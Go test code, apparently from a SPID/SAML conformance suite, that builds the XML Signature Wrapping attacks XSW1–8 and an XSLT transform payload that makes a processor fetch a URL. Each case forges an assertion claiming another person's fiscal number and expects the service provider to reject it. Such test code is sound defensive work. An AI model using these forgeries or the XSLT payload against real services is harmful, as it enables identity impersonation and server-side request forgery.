package spidtest

import (
	"errors"
	"strings"

	"github.com/beevik/etree"
)

// The XML Signature Wrapping attacks XSW1–8 (Somorovsky et al., "On Breaking
// SAML", 2012) as spid-sp-test's response_wraps.py builds them, except that
// namespaces are kept (spid-sp-test strips them, which makes its documents
// fail for a simpler reason) and that the assertion the attacker wants read
// is really forged: its NameID and fiscalNumber name another person.

// evilFiscalNumber is the identity the forged assertions claim.
const evilFiscalNumber = "TINIT-BNCGLI85M45F205O"

// wrap builds a wrapping case: a correct, fully signed response that the hook
// rewrites after signing.
func wrap(id, desc string, hook func(*builder) error) Case {
	return Case{ID: id, Name: strings.ToUpper(id), Description: desc, Expect: Reject, Source: sourceSST,
		apply: func(b *builder) { b.after = append(b.after, hook) }}
}

var errNoSignature = errors.New("wrapping needs the signed response")

// signedParts returns the Response signature and the signed assertion.
func (b *builder) signedParts() (respSig, assertion *etree.Element, err error) {
	respSig = signatureOf(b.resp)
	assertion = b.find(pAssertion)
	if respSig == nil || assertion == nil || signatureOf(assertion) == nil {
		return nil, nil, errNoSignature
	}
	return respSig, assertion, nil
}

// forge makes el claim another identity.
func forge(el *etree.Element) {
	if n := el.FindElement("./saml:Subject/saml:NameID"); n != nil {
		n.SetText("_forged" + strings.TrimPrefix(n.Text(), "_"))
	}
	for _, at := range el.FindElements("./saml:AttributeStatement/saml:Attribute") {
		if at.SelectAttrValue("Name", "") == "fiscalNumber" {
			if v := at.FindElement("./saml:AttributeValue"); v != nil {
				v.SetText(evilFiscalNumber)
			}
		}
	}
}

// unsignedCopy returns a copy of el without its ds:Signature.
func unsignedCopy(el *etree.Element) *etree.Element {
	c := el.Copy()
	if s := signatureOf(c); s != nil {
		c.RemoveChild(s)
	}
	return c
}

// withNS returns a copy of el carrying the SAML namespace declarations, for
// elements moved out of the Response's scope.
func withNS(el *etree.Element) *etree.Element {
	c := el.Copy()
	if c.SelectAttr("xmlns:saml") == nil {
		c.CreateAttr("xmlns:saml", nsSAML)
	}
	if c.SelectAttr("xmlns:samlp") == nil {
		c.CreateAttr("xmlns:samlp", nsSAMLP)
	}
	return c
}

// XSW1: Response(new ID){Issuer, Signature{…, Response(original)}, Status,
// Assertion(forged, unsigned)}.
func xsw1(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	sig.AddChild(withNS(b.resp))
	insertElementAt(b.resp, 1, sig)
	a.RemoveChild(signatureOf(a))
	forge(a)
	b.resp.CreateAttr("ID", b.idp.newID())
	return nil
}

// XSW2: Response(new ID){Issuer, Status, Response(original), Signature,
// Assertion(forged, new ID, unsigned)}.
func xsw2(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	orig := withNS(b.resp)
	insertElementAt(b.resp, 2, orig)
	insertElementAt(b.resp, 3, sig)
	a.RemoveChild(signatureOf(a))
	a.CreateAttr("ID", b.idp.newID())
	forge(a)
	b.resp.CreateAttr("ID", b.idp.newID())
	return nil
}

// XSW3: Response(unsigned){Issuer, Status, Assertion(forged, new ID),
// Assertion(original, signed)}.
func xsw3(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	evil := unsignedCopy(a)
	evil.CreateAttr("ID", b.idp.newID())
	forge(evil)
	insertElementAt(b.resp, 2, evil)
	return nil
}

// XSW4: Response(unsigned){Issuer, Status, Assertion(forged, new ID){…,
// Assertion(original, signed)}}.
func xsw4(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	b.resp.RemoveChild(a)
	evil := unsignedCopy(a)
	evil.CreateAttr("ID", b.idp.newID())
	forge(evil)
	evil.AddChild(a)
	b.resp.AddChild(evil)
	return nil
}

// XSW5: Response(unsigned){Issuer, Status, Assertion(forged, new ID, original
// Signature), Assertion(original, unsigned copy)}.
func xsw5(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	orig := unsignedCopy(a)
	a.CreateAttr("ID", b.idp.newID())
	forge(a)
	b.resp.RemoveChild(a)
	insertElementAt(b.resp, 2, a)
	insertElementAt(b.resp, 3, orig)
	return nil
}

// XSW6: Response(unsigned){Issuer, Status, Assertion(forged, new ID,
// Signature{…, Assertion(original, unsigned copy)})}.
func xsw6(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	orig := unsignedCopy(a)
	a.CreateAttr("ID", b.idp.newID())
	forge(a)
	signatureOf(a).AddChild(orig)
	return nil
}

// XSW7: Response(unsigned){Issuer, samlp:Extensions{Assertion(original,
// unsigned copy)}, Status, Assertion(forged, original ID and Signature)}.
func xsw7(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	ext := etree.NewElement("samlp:Extensions")
	ext.AddChild(unsignedCopy(a))
	insertElementAt(b.resp, 1, ext)
	forge(a)
	return nil
}

// XSW8: Response(unsigned){Issuer, Status, Assertion(forged, original ID,
// Signature{…, ds:Object{Assertion(original, unsigned copy)}})}.
func xsw8(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	b.resp.RemoveChild(sig)
	obj := etree.NewElement("ds:Object")
	obj.AddChild(unsignedCopy(a))
	forge(a)
	signatureOf(a).AddChild(obj)
	return nil
}

// xsltPayload is spid-sp-test's XSLT transform: a stylesheet that would make a
// processor fetch a URL.
const xsltPayload = `<ds:Transform xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="doc"><xsl:variable name="file" select="'test'"/><xsl:variable name="escaped" select="encode-for-uri($file)"/><xsl:variable name="attackURL" select="'http://localhost:19000/#!/auth'"/><xsl:variable name="exploitURL" select="concat($attackURL,$escaped)"/><xsl:value-of select="unparsed-text($exploitURL)"/></xsl:template></xsl:stylesheet></ds:Transform>`

// xslt inserts the XSLT transform first in the Transforms of both signatures.
func xslt(b *builder) error {
	sig, a, err := b.signedParts()
	if err != nil {
		return err
	}
	for _, s := range []*etree.Element{sig, signatureOf(a)} {
		tr := s.FindElement("./SignedInfo/Reference/Transforms")
		if tr == nil {
			return errNoSignature
		}
		doc := etree.NewDocument()
		if err := doc.ReadFromString(xsltPayload); err != nil {
			return err
		}
		tr.InsertChildAt(0, doc.Root())
	}
	return nil
}
